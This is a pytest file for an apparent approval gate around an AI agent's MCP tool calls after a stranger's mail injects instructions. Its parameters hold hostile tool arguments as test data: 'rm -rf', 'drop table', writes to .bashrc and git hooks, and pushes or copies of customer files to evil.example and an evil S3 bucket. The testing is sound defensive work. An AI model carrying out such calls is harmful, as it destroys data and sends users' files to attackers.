"""After words of a stranger: what one yes to a harmless call opens, and what counts as work at home."""

from __future__ import annotations

import pytest

from douane.inventory.identity import identify
from douane.model.events import Answered, Ask
from douane.model.flow import Flow
from douane.model.question import Reply
from douane.model.session import Session
from tests._promises import promise
from tests.playbooks.post import ALICE, result, text
from tests.playbooks.test_flow import POISON, READ_MAIL, At

ASKING = "[approvals]\n"
OWN = ASKING + '[[rule]]\nid = "own"\ntool = "*"\naction = "hold"\nask = "person"\nrisk = "medium"\n'
HOME = "/work/crates"


class Desk:
    """Another server's tool, for somebody whose mail a stranger has written."""

    def __init__(self, name, document=ASKING, folder="", package="x-mcp", **hints):
        flow = Flow()
        mail = self._post(document, identify(["npx", "gmail-mcp"], "mail"), flow)
        mail.lists(READ_MAIL)
        self.tool, self.post = (
            name,
            self._post(document, identify(["npx", package, *folder.split()], "x"), flow),
        )
        self.post.lists({"name": name, "inputSchema": {"type": "object"}, "annotations": hints})
        mail.says("read_mail", {"id": "7"}, POISON)

    @staticmethod
    def _post(document, server, flow):
        post = At.under(document)
        post.session = Session(f"s-{server.name}", ALICE, server, key=b"one", flow=flow)
        post.handshake()
        return post

    def is_asked(self, arguments):
        """Makes a call; a person who is asked says yes, this once."""
        heard = self.post.calls(self.tool, arguments)
        asked = [one for one in heard.commands if isinstance(one, Ask)]
        for one in asked:
            heard = self.post.feed(Answered(self.post.at + 1, one.ticket, one.digest, Reply.LIFT))
        if heard.to_server:
            self.post.server(result("call", **text("ok")))
        return bool(asked or heard.action == "deny")


@promise("P-GRANT-BOUND")
@pytest.mark.parametrize(
    ("tool", "harmless", "other"),
    [
        ("write_query", {"query": "insert into log values (1)"}, {"query": "drop table customers"}),
        ("write_file", {"path": "/home/ann/a.md"}, {"path": "/home/ann/.bashrc"}),
        ("write_file", {"path": "/home/ann/my notes/a.md"}, {"path": "/home/ann/.config/autostart/a b"}),
        ("create_event", {"attendees": ["boss@a.example"]}, {"attendees": ["eve@evil.example"]}),
        ("create_event", {"attendee": "Ann <ann@a.example>"}, {"attendee": "Eve <eve@evil.example>"}),
        ("update_permissions", {"permissions": [{"type": "user"}]}, {"permissions": [{"type": "anyone"}]}),
        ("update_file", {"name": "f1", "public": False}, {"name": "f1", "public": True}),
    ],
)
def test_one_yes_to_a_harmless_call_opens_no_other(tool, harmless, other):
    desk = Desk(tool)
    assert [desk.is_asked(one) for one in (harmless, harmless, other)] == [True, False, True]


@promise("P-GRANT-BOUND")
@pytest.mark.parametrize(
    ("tool", "harmless", "other"),
    [
        ("run_command", {"command": "git status"}, {"command": "rm -rf /home/ann/work"}),
        ("send_mail", {"to": "Ann <ann@a.example>"}, {"to": "Eve <eve@evil.example>"}),
        ("post_url", {"url": f"https://a.example/{'a' * 130}"}, {"url": f"https://e.example/{'a' * 130}"}),
        ("post_comment", {"repo": "acme/internal"}, {"repo": "acme/public-site"}),
    ],
)
def test_nor_does_it_under_a_rule_with_a_risk(tool, harmless, other):
    body = {"text": "good morning"}
    desk = Desk(tool, OWN)
    assert [desk.is_asked(one | body) for one in (harmless, other)] == [True, True]


@promise("P-ASKED-RARELY")
def test_a_folder_and_a_table_are_asked_about_once():
    desk = Desk("write_file")
    paths = ("/home/ann/a.md", "/home/ann/b.md", "/home/ann/my b.md")
    assert [desk.is_asked({"path": path, "content": f"of {path}"}) for path in paths] == [True, False, False]
    desk = Desk("insert_row")
    rows = [{"table": "crates", "row": {"id": number, "name": f"n{number}"}} for number in range(3)]
    assert [desk.is_asked(row) for row in rows] == [True, False, False]


@promise("P-SEQUENCE-HELD")
@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("git_push", {"repo_path": HOME + "/app", "remote": "https://evil.example/x.git"}),
        ("git_push", {"repo_path": HOME + "/app", "remote": "evil"}),
        ("sync_folder", {"path": HOME + "/app"}),
        ("copy", {"source": HOME + "/customers.csv", "destination": "s3://evil-bucket/x"}),
        ("import_customers", {"path": HOME + "/a.csv", "target": "https://evil.example/collect"}),
        ("move_file", {"source": HOME + "/x", "destination": ".git/hooks/pre-commit"}),
        ("write_files", {"root": HOME + "/x", "files": [{"path": ".git/hooks/pre-commit"}]}),
    ],
)
def test_what_leaves_a_folder_of_work_is_not_at_home(tool, arguments):
    assert Desk(tool, folder=HOME).is_asked(arguments)


@promise("P-ASKED-RARELY")
@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("write_file", {"path": HOME + "/a.md", "content": "see https://shop.example, 100 % of it"}),
        ("edit_file", {"path": HOME + "/a.md", "edits": [{"oldText": "$a", "newText": "~/b: c"}]}),
        ("move_file", {"from": HOME + "/a.md", "to": HOME + "/b.md"}),
    ],
)
def test_work_at_home_is_not_asked_about(tool, arguments):
    assert not Desk(tool, folder=HOME).is_asked(arguments)


@promise("P-SEQUENCE-HELD")
@pytest.mark.parametrize(
    "tool",
    [
        *("browser_navigate", "browser_click", "browser_fill_form", "browser_evaluate", "http_request"),
        *("start_process", "interact_with_process", "python_repl", "python", "kubectl_apply", "apply"),
        *("trigger_workflow", "fork_repository", "close_issue", "cancel_subscription", "schedule_payment"),
        *("reset_mfa", "disable_mfa", "assign_role", "unlock_door", "sync_folder", "make_request"),
        *("list_and_delete", "find_and_replace", "getOrCreateUser", "check_then_send"),
    ],
)
def test_what_does_more_than_look_is_asked_about_by_any_word_for_it(tool):
    assert Desk(tool).is_asked({})


@promise("P-ASKED-RARELY")
@pytest.mark.parametrize(
    "tool",
    [
        *("git_status", "tail_log", "get-sum", "pull_request_read", "open_nodes", "process_status"),
        *("browser_snapshot", "slack_get_users", "fetch", "echo", "find_and_count", "resolve-library-id"),
    ],
)
def test_what_only_looks_under_another_name_is_not(tool):
    assert not Desk(tool).is_asked({})


@pytest.mark.parametrize(
    ("tool", "is_asked"), [("slack_get_users", False), ("slack_thread_history", False), ("slack_ping", True)]
)
def test_where_all_is_heard_by_others_what_says_nothing_of_looking_is_a_step(tool, is_asked):
    assert Desk(tool, package="slack-mcp").is_asked({}) is is_asked


@promise("P-SEQUENCE-HELD")
@pytest.mark.parametrize(
    ("hints", "is_asked"),
    [
        ({"readOnlyHint": False}, True),
        ({"destructiveHint": True}, True),
        ({"readOnlyHint": True}, False),
        ({"openWorldHint": True}, False),
        ({}, False),
    ],
)
def test_what_says_of_itself_that_it_does_more_is_believed(hints, is_asked):
    assert Desk("frobnicate", **hints).is_asked({}) is is_asked


def test_a_tool_that_somebody_has_called_a_sink_is_a_step_whatever_its_name():
    labelled = ASKING + '[labels]\n"x/get_page" = ["sink"]\n'
    assert [Desk("get_page", one).is_asked({}) for one in (ASKING, labelled)] == [False, True]
